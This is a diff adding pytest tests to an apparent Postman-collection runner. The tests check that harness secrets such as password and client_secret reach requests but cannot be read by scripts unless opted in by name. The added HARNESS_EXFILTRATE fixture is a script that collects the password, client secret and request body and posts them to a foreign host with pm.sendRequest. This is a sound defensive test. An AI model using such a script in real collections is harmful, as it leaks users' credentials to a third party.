@@ -64,3 +64,77 @@ def test_send_request_to_the_collections_own_host_is_not_reported(server):
     with runner:
         (execution,) = runner.run().executions
     assert not [w for w in execution.warnings if "pm.sendRequest" in w]
+
+
+HARNESS_EXFILTRATE = """
+pm.environment.set('pw', String(pm.variables.get('password')));
+pm.environment.set('secret', String(pm.variables.replaceIn('{{client_secret}}')));
+pm.environment.set('user', String(pm.variables.get('username')));
+pm.environment.set('sent_body', JSON.stringify(pm.request.toJSON()));
+pm.sendRequest({url: 'FOREIGN/echo', method: 'POST',
+                body: {mode: 'raw', raw: String(pm.variables.get('password')) + ' ' + JSON.stringify(pm.request.toJSON())}},
+               function (err, res) { pm.environment.set('foreign_got', res ? res.json().body : String(err)); });
+"""
+
+
+@pytest.fixture(scope="module")
+def recorder():
+    """A loopback server that keeps every body it receives, unredacted (what really went over the wire)."""
+    from starlette.applications import Starlette
+    from starlette.responses import JSONResponse
+    from starlette.routing import Route
+
+    received: list[str] = []
+
+    async def echo(request):
+        body = (await request.body()).decode("utf-8", errors="replace")
+        received.append(body)
+        return JSONResponse({"body": body})
+
+    srv = LocalServer(Starlette(routes=[Route("/echo", echo, methods=["POST"])])).start()
+    yield srv, received
+    srv.stop()
+
+
+def _run_harness_vars(server, foreign, dotenv: dict[str, str] | None = None):
+    password, secret = f"Canary-{secrets.token_hex(8)}", f"Canary~{secrets.token_hex(8)}"
+    body = {"mode": "urlencoded", "urlencoded": [{"key": "username", "value": "{{username}}"},
+                                                  {"key": "password", "value": "{{password}}"},
+                                                  {"key": "client_secret", "value": "{{client_secret}}"}]}
+    items = [request_item("Sign in", f"{server.url}/echo", "POST", body=body,
+                          tests=HARNESS_EXFILTRATE.replace("FOREIGN", foreign.url))]
+    runner = CollectionRunner(load_collection(collection(items)), dotenv_values=dotenv or {},
+                              harness_variables={"username": "ada@contoso.test", "password": password,
+                                                 "client_secret": secret})
+    with runner:
+        result = runner.run()
+    return runner, result, password, secret
+
+
+def test_the_harness_password_and_client_secret_resolve_in_requests_but_not_in_scripts(recorder, foreign, monkeypatch):
+    """Issue 14 item 4: {{password}}/{{client_secret}} (filled from .env in live runs) are sent where a
+    request names them, but no script can read them, through variables or the sent request."""
+    monkeypatch.delenv("HARNESS_SCRIPT_SECRETS", raising=False)
+    own, received = recorder
+    received.clear()
+    runner, result, password, secret = _run_harness_vars(own, foreign)
+    (execution,) = result.executions
+    assert password in received[0] and secret in received[0].replace("%7E", "~")  # the request got the real values
+    assert runner.environment.get("pw") == "undefined"
+    assert runner.environment.get("secret") == "{{client_secret}}"  # unresolved, as for an unknown name
+    assert runner.environment.get("user") == "ada@contoso.test"  # not a secret: visible
+    assert password not in runner.environment.get("sent_body") and "***" in runner.environment.get("sent_body")
+    assert password not in json.dumps(runner.environment.values) and secret not in json.dumps(runner.environment.values)
+    assert password not in runner.environment.get("foreign_got") and secret not in runner.environment.get("foreign_got")
+    hints = [w for w in execution.warnings if "list 'password' in HARNESS_SCRIPT_SECRETS" in w]
+    assert hints and "scripts cannot see" in hints[0] and password not in hints[0]
+    assert any("list 'client_secret' in HARNESS_SCRIPT_SECRETS" in w for w in execution.warnings)
+
+
+def test_the_harness_password_is_script_visible_when_opted_in_by_name(server, foreign, monkeypatch):
+    monkeypatch.delenv("HARNESS_SCRIPT_SECRETS", raising=False)
+    runner, result, password, secret = _run_harness_vars(server, foreign, {"HARNESS_SCRIPT_SECRETS": "password"})
+    assert runner.environment.get("pw") == password
+    assert runner.environment.get("secret") == "{{client_secret}}"  # opted in per variable: only password
+    (execution,) = result.executions
+    assert not any("list 'password' in HARNESS_SCRIPT_SECRETS" in w for w in execution.warnings)
